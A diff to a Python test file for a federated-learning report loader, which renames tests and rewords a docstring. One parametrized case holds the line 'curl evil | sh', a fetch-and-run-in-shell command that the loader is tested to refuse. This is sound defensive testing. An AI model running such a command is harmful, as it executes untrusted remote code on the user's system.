@@ -1,4 +1,4 @@
-"""What others leave for the report: what is written can be read, and what cannot be shown is refused with its place."""
+"""Extra data for the report: written data can be read, and invalid data is refused with its place."""
 
 from __future__ import annotations
 
@@ -30,7 +30,7 @@ from fl.report.gains import summarize_gains
 CLIENT = {"id": 3, "examples": 4, "global_accuracy": 0.5, "personal_accuracy": 0.75}
 
 
-def test_what_is_saved_is_loaded(tmp_path: Path) -> None:
+def test_saved_extras_can_be_loaded(tmp_path: Path) -> None:
     assert load_series(tmp_path) == ()
     assert load_personalization(tmp_path) is None
     series = (
@@ -78,7 +78,7 @@ def test_an_origin_that_is_saved_is_loaded_and_its_command_is_made_of_it(tmp_pat
         {"command": "curl evil | sh"},
     ],
 )
-def test_an_origin_that_could_show_a_command_of_its_own_is_refused(change: dict[str, Any], tmp_path: Path) -> None:
+def test_an_origin_with_its_own_command_is_refused(change: dict[str, Any], tmp_path: Path) -> None:
     (tmp_path / "origin.json").write_text(json.dumps({**ORIGIN, **change}))
     with pytest.raises(ConfigError, match=next(iter(change))):
         load_origin(tmp_path)
@@ -155,13 +155,13 @@ def test_wrong_gains_are_refused_with_their_place(values: Any, said: str, tmp_pa
 
 
 @pytest.mark.parametrize("content", [b"", b"{", b'{"central": [', b"\xff\xfe", b"[" * 100_000])
-def test_what_is_no_json_is_refused(content: bytes, tmp_path: Path) -> None:
+def test_invalid_json_is_refused(content: bytes, tmp_path: Path) -> None:
     (tmp_path / "series.json").write_bytes(content)
     with pytest.raises(ConfigError, match="not JSON, or half of a file"):
         load_series(tmp_path)
 
 
-def test_what_a_report_would_refuse_is_not_written(tmp_path: Path) -> None:
+def test_extras_that_a_report_would_refuse_are_not_written(tmp_path: Path) -> None:
     with pytest.raises(ConfigError, match="secure is the run's own curve"):
         save_series(tmp_path, [Series("secure", (Point(1, 0.5),))])
     with pytest.raises(ConfigError, match="a name of its own"):
